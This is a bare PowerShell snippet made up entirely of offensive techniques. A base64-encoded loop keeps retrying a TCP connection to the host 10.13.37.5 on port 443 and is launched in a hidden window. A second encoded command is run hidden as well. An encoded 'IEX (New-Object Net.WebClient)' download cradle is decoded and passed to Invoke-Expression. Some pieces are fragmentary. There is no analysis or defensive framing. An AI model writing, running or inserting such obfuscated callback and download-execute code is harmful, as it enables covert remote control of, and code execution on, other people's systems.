$inner = 'while ($true) { try { $c = New-Object Net.Sockets.TCPClient("10.13.37.5", 443); break } catch { Start-Sleep 30 } }'
$bytes = [System.Text.Encoding]::Unicode.GetBytes($inner)
$enc = [Convert]::ToBase64String($bytes)

Start-Process -FilePath powershell.exe -ArgumentList "-NoP -NonI -W Hidden -EncodedCommand $enc" -WindowStyle Hidden

powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA==

$stub = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'
Invoke-Expression ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($stub)))
